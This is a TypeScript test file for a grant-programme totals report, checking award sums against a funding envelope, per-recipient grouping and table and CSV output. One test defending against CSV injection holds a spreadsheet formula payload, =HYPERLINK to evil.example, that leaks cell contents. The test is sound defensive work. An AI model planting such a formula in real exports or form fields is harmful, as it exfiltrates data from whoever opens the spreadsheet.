import { NotFound } from '@fundledger/funding';
import { fixtureRecorder } from '@fundledger/testing';
import { fixtureLedger } from '../ledger/award-view.test-builders';
import { foldLedgerView } from '../ledger/ledger-view';
import { programmeTotalsReport } from './programme-totals.report';
import { programmeTotalsToCsv, programmeTotalsToTable } from './programme-totals.formats';

/*
 * fixtures/national-2021.json: 25 awards against an £11.3m envelope. Summing its 25 MakeAward
 * amounts gives 11,334,384.69: 34,384.69 over 11,300,000.00. Cleveland's decision then varies its
 * award from 200,333.33 to 200,124.66 (−208.67): 11,334,176.02, over by 34,176.02. Taking the awards
 * in the order made, the running total is 10,943,237.02 after West Midlands (the 24th), and West
 * Yorkshire's 390,939.00 takes it to 11,334,176.02: the one award recorded past the envelope.
 */
describe('programme totals', () => {
  describe('given the national allocation as announced', () => {
    const report = programmeTotalsReport(fixtureLedger('national-2021'), 'dapi-2021');

    it('totals 25 awards at 11,334,384.69, 34,384.69 over the envelope', () => {
      expect(report).toMatchObject({
        name: 'Domestic Abuse Perpetrator Interventions Fund 2021/22',
        funder: { id: 'home-office', name: 'Home Office' },
        financialYear: '2021-22',
        envelope: '11300000.00',
        awards: { count: 25, total: '11334384.69' },
        envelopeDifference: { kind: 'over', amount: '34384.69' },
      });
    });
  });

  describe('given the national allocation and the Cleveland decision', () => {
    const report = programmeTotalsReport(fixtureLedger('national-2021', 'cleveland-2021'), 'dapi-2021');

    it('counts Cleveland at its varied amount: 11,334,176.02, 34,176.02 over the envelope', () => {
      expect(report.awards.total).toBe('11334176.02');
      expect(report.envelopeDifference).toEqual({ kind: 'over', amount: '34176.02' });
      expect(report.awards.items.find((a) => a.awardId === 'dapi21-cleveland')!.amount).toBe('200124.66');
    });

    it('keeps the award that went past the envelope, and flags it', () => {
      expect(report.awards.items.filter((a) => a.pastEnvelope).map((a) => [a.awardId, a.runningTotal])).toEqual([
        ['dapi21-west-yorkshire', '11334176.02'],
      ]);
      expect(report.awards.items[23].runningTotal).toBe('10943237.02');
    });

    it('groups by recipient, one award each', () => {
      expect(report.byRecipient).toHaveLength(25);
      expect(report.byRecipient[2]).toEqual({
        recipient: { id: 'opcc-cleveland', name: 'Police and Crime Commissioner for Cleveland' },
        awards: [{ awardId: 'dapi21-cleveland', amount: '200124.66' }],
        total: '200124.66',
      });
    });

    it('renders the difference in words and as a signed CSV row', () => {
      expect(programmeTotalsToTable(report)).toMatch(/Against the envelope:\s+£34,176\.02 over the envelope/);
      expect(programmeTotalsToTable(report)).toMatch(/dapi21-west-yorkshire .*£390,939\.00\s+£11,334,176\.02\s+past envelope/);
      const csv = programmeTotalsToCsv(report).trim().split('\n');
      expect(csv.slice(-3)).toEqual(['total,,,11334176.02,,', 'envelope,,,11300000.00,,', 'over envelope,,,34176.02,,']);
    });
  });

  describe('when a recipient holds two awards and the envelope is not reached', () => {
    const org = (id: string) => ({ id, name: id.toUpperCase() });
    const award = (awardId: string, recipient: string, amount: string) => ({
      commandId: awardId, type: 'MakeAward', awardId, programmeId: 'p', funder: org('funder'), recipient: org(recipient),
      amount, awardedOn: '2024-01-01', window: { start: '2024-01', end: '2024-03' }, decisionRef: 'D', description: 'x',
    });
    /** Programme p, envelope 1,000.00, with these awards (id, recipient, amount). */
    const programmeWith = (awards: Array<[string, string, string]>) => {
      const recorder = fixtureRecorder();
      const open = { type: 'OpenProgramme', programmeId: 'p', name: 'P', funder: org('funder'), envelope: '1000.00', openedOn: '2024-01-01' };
      recorder.record({ commandId: 'open', ...open, financialYear: '2023-24' });
      for (const [id, recipient, amount] of awards) recorder.record(award(id, recipient, amount));
      return programmeTotalsReport(foldLedgerView(recorder.events), 'p');
    };
    const awards: Array<[string, string, string]> = [['a1', 'r1', '300.00'], ['a2', 'r2', '200.00'], ['a3', 'r1', '400.00']];
    const report = programmeWith(awards);

    it('says by how much it is under, and totals the recipient across both awards', () => {
      expect(report.envelopeDifference).toEqual({ kind: 'under', amount: '100.00' }); // 1,000 − 900
      expect(report.byRecipient.map((r) => [r.recipient.id, r.awards.map((a) => a.awardId), r.total])).toEqual([
        ['r1', ['a1', 'a3'], '700.00'],
        ['r2', ['a2'], '200.00'],
      ]);
      expect(report.awards.items.some((a) => a.pastEnvelope)).toBe(false);
      expect(programmeTotalsToCsv(report)).toContain('under envelope,,,100.00,,');
    });

    // OWASP CSV injection: a name someone typed must never run as a formula in the spreadsheet that opens the file.
    it('neutralises an organisation named like a formula in the CSV', () => {
      const recorder = fixtureRecorder();
      const open = { type: 'OpenProgramme', programmeId: 'p', name: 'P', funder: org('funder'), envelope: '1000.00', openedOn: '2024-01-01' };
      recorder.record({ commandId: 'open', ...open, financialYear: '2023-24' });
      const evil = { id: 'evil', name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")' };
      recorder.record({ ...award('a1', 'r1', '300.00'), recipient: evil });
      const csv = programmeTotalsToCsv(programmeTotalsReport(foldLedgerView(recorder.events), 'p'));
      expect(csv).toContain('a1,evil,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")",300.00,300.00,false');
      expect(csv).not.toMatch(/,"?=HYPERLINK/);
    });

    it('says exact when the awards meet the envelope to the penny', () => {
      const exact = programmeWith([...awards, ['a4', 'r3', '100.00']]); // 900 + 100
      expect(exact.envelopeDifference).toEqual({ kind: 'exact', amount: '0.00' });
      expect(programmeTotalsToTable(exact)).toMatch(/exactly the envelope/);
    });
  });

  describe('when the programme was never opened', () => {
    it('answers not found', () => {
      expect(() => programmeTotalsReport(fixtureLedger('norfolk-2023'), 'nope')).toThrow(NotFound);
    });
  });
});
